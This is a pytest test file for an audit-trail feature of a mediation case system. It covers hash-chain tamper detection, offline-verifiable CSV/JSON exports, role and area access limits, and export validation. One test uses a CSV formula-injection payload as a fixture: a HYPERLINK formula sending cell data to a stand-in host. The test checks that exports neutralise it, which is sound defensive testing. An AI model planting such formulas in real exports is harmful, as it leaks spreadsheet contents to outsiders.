"""A case's audit trail: intact or visibly broken, and exported (per case and per area) so an
auditor can check every hash offline."""

from __future__ import annotations

import csv
import html
import io
import json
from datetime import datetime
from typing import Any
from uuid import UUID

import pytest
from sqlalchemy import update

from mediasi.accounts.actor import Actor
from mediasi.accounts.models import OfficerDesa, User
from mediasi.cases.chain import GENESIS, event_hash
from mediasi.cases.event_model import Event
from mediasi.cases.schemas import PartyInput
from mediasi.db.base import utcnow
from mediasi.runtime import Runtime
from mediasi.workflow.durations import LOCAL_TZ
from tests.factories import TimedCases, World, password_hash
from tests.integration.supervision.conftest import OpenAs
from tests.integration.web.conftest import Db

HEADER = [
    "reference",
    "case_id",
    "seq",
    "created_at",
    "actor_id",
    "actor_name",
    "actor_role",
    "trigger",
    "from_state",
    "to_state",
    "payload",
    "prev_hash",
    "hash",
]
FORMULA_STARTS = ("=", "+", "-", "@")


def wib(year: int, month: int, day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(year, month, day, hour, minute, tzinfo=LOCAL_TZ)


def chain_status(page: str) -> str:
    start = page.index('id="chain-status"')
    return page[start : start + 40]


def offline_problems(rows: list[dict[str, Any]]) -> list[str]:
    """What an auditor with nothing but the export finds wrong, per case."""
    problems = []
    previous: dict[str, str] = {}
    for row in rows:
        recomputed = event_hash(
            case_id=UUID(row["case_id"]),
            seq=int(row["seq"]),
            actor_id=UUID(row["actor_id"]) if row["actor_id"] else None,
            actor_name=row["actor_name"],
            actor_role=row["actor_role"],
            trigger=row["trigger"],
            from_state=row["from_state"] or None,
            to_state=row["to_state"],
            payload=row["payload"]
            if isinstance(row["payload"], dict)
            else json.loads(row["payload"]),
            created_at=datetime.fromisoformat(row["created_at"]),
            prev_hash=row["prev_hash"],
        )
        if recomputed != row["hash"]:
            problems.append(f"{row['reference']} #{row['seq']}: hash")
        if row["prev_hash"] != previous.get(row["reference"], GENESIS):
            problems.append(f"{row['reference']} #{row['seq']}: link")
        previous[row["reference"]] = row["hash"]
    return problems


@pytest.fixture
def case_id(timed: TimedCases) -> UUID:
    """A case with a history: reported with two parties, assessed, escalated."""
    case_id = timed.report(wib(2026, 11, 2, 9))
    timed.fire(case_id, "assess", wib(2026, 11, 3, 10))
    timed.fire(case_id, "escalate", wib(2026, 11, 4, 11))
    return case_id


def test_the_trail_shows_an_intact_chain(open_as: OpenAs, db: Db, case_id: UUID) -> None:
    for username in ("officer", "supervisor"):
        page = open_as(username).get(f"/cases/{case_id}/trail")
        assert page.status_code == 200
        assert 'data-ok="true"' in chain_status(page.text)
        assert "Rantai hash utuh" in page.text
        for event in db.events(case_id):
            assert f'id="event-{event.seq}"' in page.text
            assert event.hash[:16] in page.text
    assert len(db.events(case_id)) == 5


@pytest.mark.parametrize("column", ["actor_name", "payload"])
def test_a_changed_event_shows_the_chain_broken_at_that_event(
    open_as: OpenAs, db: Db, runtime: Runtime, timed: TimedCases, case_id: UUID, column: str
) -> None:
    untouched = timed.report(wib(2026, 11, 2, 9, 30), title="Sengketa pagar kebun")
    second = db.events(case_id)[1]
    assert second.trigger == "party.added"
    forged: Any = "Orang Lain"
    if column == "payload":
        forged = json.loads(json.dumps(second.payload))
        forged["party"]["name"] = "Nama Palsu"
    with runtime.sessions.begin() as session:
        session.execute(
            update(Event).where(Event.case_id == case_id, Event.seq == 2).values({column: forged})
        )

    web = open_as("supervisor")
    page = web.get(f"/cases/{case_id}/trail")
    assert page.status_code == 200
    assert 'data-ok="false"' in chain_status(page.text)
    assert "Rantai rusak" in page.text
    problems = html.unescape(page.text)
    assert "<li>event 2: content was changed after it was written</li>" in problems
    assert "event 1:" not in problems
    assert "event 3:" not in problems
    # Only the changed case is reported broken.
    other = web.get(f"/cases/{untouched}/trail")
    assert 'data-ok="true"' in chain_status(other.text)

    # The export carries the forged row as stored, and checking it offline finds it.
    exported = json.loads(web.get(f"/cases/{case_id}/trail/export.json").text)["events"]
    assert offline_problems(exported) == [f"{db.case(case_id).reference} #2: hash"]


def test_case_exports_hold_every_event_with_its_hashes(
    open_as: OpenAs, db: Db, case_id: UUID
) -> None:
    web = open_as("officer")
    events = db.events(case_id)
    reference = db.case(case_id).reference
    filename = reference.replace("/", "-")

    as_csv = web.get(f"/cases/{case_id}/trail/export.csv")
    assert as_csv.status_code == 200
    assert as_csv.headers["content-type"].startswith("text/csv")
    assert as_csv.headers["content-disposition"] == f'attachment; filename="{filename}.csv"'
    reader = csv.DictReader(io.StringIO(as_csv.text))
    assert reader.fieldnames == HEADER
    rows = list(reader)
    assert [(r["reference"], int(r["seq"]), r["trigger"]) for r in rows] == [
        (reference, e.seq, e.trigger) for e in events
    ]
    assert [(r["prev_hash"], r["hash"]) for r in rows] == [(e.prev_hash, e.hash) for e in events]
    assert json.loads(rows[-1]["payload"]) == events[-1].payload

    as_json = web.get(f"/cases/{case_id}/trail/export.json")
    assert as_json.status_code == 200
    assert as_json.headers["content-type"].startswith("application/json")
    assert as_json.headers["content-disposition"] == f'attachment; filename="{filename}.json"'
    exported = json.loads(as_json.text)["events"]
    assert [(r["seq"], r["hash"]) for r in exported] == [(e.seq, e.hash) for e in events]
    assert offline_problems(exported) == []
    assert exported[0]["prev_hash"] == GENESIS


def test_a_csv_export_alone_can_be_re_verified(open_as: OpenAs, case_id: UUID) -> None:
    response = open_as("officer").get(f"/cases/{case_id}/trail/export.csv")
    if response.status_code != 200:
        pytest.fail(f"the export failed: {response.status_code}")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert {"case_id", "actor_id"} <= set(rows[0])
    assert offline_problems(rows) == []


def test_a_tokoh_may_read_the_case_but_not_its_trail(
    open_as: OpenAs, timed: TimedCases, world: World, case_id: UUID
) -> None:
    timed.invite(case_id, wib(2026, 11, 4, 12))
    not_invited = timed.report(wib(2026, 11, 5, 9), title="Sengketa lain")
    tokoh = open_as("tokoh")
    assert tokoh.get(f"/cases/{case_id}").status_code == 200
    for suffix in ("", "export.csv", "export.json"):
        response = tokoh.get(f"/cases/{case_id}/trail/{suffix}")
        assert response.status_code == 403, suffix
        assert "Jejak audit hanya untuk petugas dan pengawas." in response.text
        # A case the tokoh has no part in does not exist for them.
        assert tokoh.get(f"/cases/{not_invited}/trail/{suffix}").status_code == 404
    assert "/trail" not in tokoh.get(f"/cases/{case_id}").text


@pytest.mark.parametrize("username", ["admin", "officer_b", "supervisor_b"])
def test_no_trail_outside_ones_area(open_as: OpenAs, case_id: UUID, username: str) -> None:
    web = open_as(username)
    for suffix in ("", "export.csv", "export.json"):
        assert web.get(f"/cases/{case_id}/trail/{suffix}").status_code == 404


# ---- the area export -----------------------------------------------------------------------


@pytest.fixture
def march(timed: TimedCases, world: World) -> dict[str, UUID]:
    in_a1 = timed.report(wib(2026, 3, 10, 10), title="Sengketa irigasi sawah")
    timed.fire(in_a1, "assess", wib(2026, 3, 31, 23, 30))  # still 31 March in WIB
    timed.invite(in_a1, wib(2026, 4, 1, 0, 30))  # already April in WIB (still March in UTC)
    in_a2 = timed.report(wib(2026, 3, 15, 8), desa=world.desa_a2, title="Utang warung kopi")
    in_b1 = timed.report(
        wib(2026, 3, 12, 9), by="officer_b", desa=world.desa_b1, title="Sapi lepas di ladang"
    )
    before = timed.report(wib(2026, 2, 28, 23, 59), title="Sengketa akhir Februari")
    return {"a1": in_a1, "a2": in_a2, "b1": in_b1, "before": before}


def _export(web: Any, **params: str) -> Any:
    query = "&".join(f"{k}={v}" for k, v in params.items())
    return web.get(f"/supervision/export?{query}")


def test_the_area_export_covers_the_area_and_the_period(
    open_as: OpenAs, db: Db, march: dict[str, UUID]
) -> None:
    web = open_as("supervisor")
    a1, a2 = db.case(march["a1"]).reference, db.case(march["a2"]).reference
    response = _export(web, start="2026-03-01", end="2026-03-31", format="json", desa="")
    assert response.status_code == 200
    assert response.headers["content-disposition"] == (
        'attachment; filename="mediasi-trail-2026-03-01-2026-03-31.json"'
    )
    rows = json.loads(response.text)["events"]
    got = [(r["reference"], r["seq"], r["trigger"]) for r in rows]
    assert got == [
        (a1, 1, "case.reported"),
        (a1, 2, "party.added"),
        (a1, 3, "party.added"),
        (a1, 4, "assess"),
        (a2, 1, "case.reported"),
        (a2, 2, "party.added"),
        (a2, 3, "party.added"),
    ]
    assert offline_problems(rows) == []

    as_csv = _export(web, start="2026-03-01", end="2026-03-31", format="csv")
    assert as_csv.status_code == 200
    assert as_csv.headers["content-type"].startswith("text/csv")
    csv_rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [(r["reference"], int(r["seq"]), r["trigger"]) for r in csv_rows] == got

    # One desa of the area only.
    only_a2 = _export(
        web,
        start="2026-03-01",
        end="2026-03-31",
        format="json",
        desa=str(db.case(march["a2"]).desa_id),
    )
    assert {r["reference"] for r in json.loads(only_a2.text)["events"]} == {a2}


def test_the_area_export_never_reaches_another_area(
    open_as: OpenAs, db: Db, world: World, march: dict[str, UUID]
) -> None:
    b1 = db.case(march["b1"]).reference
    web_b = open_as("supervisor_b")
    rows = json.loads(_export(web_b, start="2026-03-01", end="2026-03-31", format="json").text)
    assert {r["reference"] for r in rows["events"]} == {b1}

    # Asking for a desa of another Polsek gives nothing, not that desa's events.
    web_a = open_as("supervisor")
    foreign = _export(
        web_a, start="2026-03-01", end="2026-03-31", format="json", desa=str(world.desa_b1)
    )
    assert foreign.status_code == 200
    assert json.loads(foreign.text)["events"] == []
    foreign_csv = _export(web_a, start="2026-03-01", end="2026-03-31", desa=str(world.desa_b1))
    assert foreign_csv.text.strip().splitlines() == [",".join(HEADER)]


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"start": "2026-03-31", "end": "2026-03-01"}, "Tanggal akhir sebelum tanggal awal."),
        ({"start": "2025-01-01", "end": "2026-01-03"}, "Paling lama satu tahun."),
        (
            {"start": "kemarin", "end": "2026-03-01"},
            "Tanggal tidak sah; tulis seperti 2026-12-31.",
        ),
        ({"start": "2026-02-30", "end": "2026-03-01"}, "Tanggal tidak sah."),
        (
            {"start": "2026-03-01", "end": "2026-03-31", "desa": "bukan-uuid"},
            "Pilihan tidak dikenal.",
        ),
        ({"start": "2026-03-01", "end": "2026-03-31", "format": "xlsx"}, "Pilihan tidak dikenal."),
        ({"end": "2026-03-31"}, "Wajib diisi."),
    ],
    ids=[
        "end-before-start",
        "over-a-year",
        "garbage-date",
        "no-such-day",
        "desa",
        "format",
        "no-start",
    ],
)
def test_a_bad_export_request_is_refused(
    open_as: OpenAs, params: dict[str, str], message: str
) -> None:
    response = _export(open_as("supervisor"), **params)
    assert response.status_code == 422
    assert message in html.unescape(response.text)
    assert "content-disposition" not in response.headers


def test_a_year_is_the_longest_period(open_as: OpenAs, march: dict[str, UUID]) -> None:
    # 366 days between the two dates: still accepted.
    response = _export(open_as("supervisor"), start="2025-06-01", end="2026-06-02", format="json")
    assert response.status_code == 200
    assert len(json.loads(response.text)["events"]) == 11  # all four cases of Polsek A


# ---- formulas in a spreadsheet -------------------------------------------------------------


def test_csv_cells_never_start_a_formula(open_as: OpenAs, runtime: Runtime, world: World) -> None:
    evil = '=HYPERLINK("http://x.example/?d="&A1,"klik")'
    with runtime.sessions.begin() as session:
        user = User(
            username=evil[:60],
            full_name="Petugas Iseng",
            role="officer",
            area_id=world.polsek_a,
            password_hash=password_hash(),
            password_changed_at=utcnow(),
        )
        session.add(user)
        session.flush()
        session.add(OfficerDesa(user_id=user.id, desa_id=world.desa_a1))
        session.flush()
        parties = [
            PartyInput(role="complainant", name="=1+2 Darto"),
            PartyInput(role="respondent", name="@SUM(A1:A9) Slamet"),
        ]
        case = runtime.case_service(session).report(
            Actor.of(user), world.report(title=evil, reporter_name="-2+3 Pelapor", parties=parties)
        )
        case_id = case.id

    web = open_as("supervisor")
    today = utcnow().astimezone(LOCAL_TZ).date().isoformat()
    for url in (
        f"/cases/{case_id}/trail/export.csv",
        f"/supervision/export?start={today}&end={today}&format=csv",
    ):
        response = web.get(url)
        assert response.status_code == 200, url
        rows = list(csv.reader(io.StringIO(response.text)))
        assert len(rows) == 4, url  # the header, the report, two parties
        cells = [cell for row in rows for cell in row]
        assert [c for c in cells if c.startswith(FORMULA_STARTS)] == [], url
        assert f"'{evil[:60]}" in cells  # kept readable, only made inert

    # The JSON export keeps the exact stored text (it is what the hash covers).
    exported = json.loads(web.get(f"/cases/{case_id}/trail/export.json").text)["events"]
    assert exported[0]["actor_name"] == evil[:60]
    assert exported[0]["payload"]["case"]["title"] == evil
    assert offline_problems(exported) == []
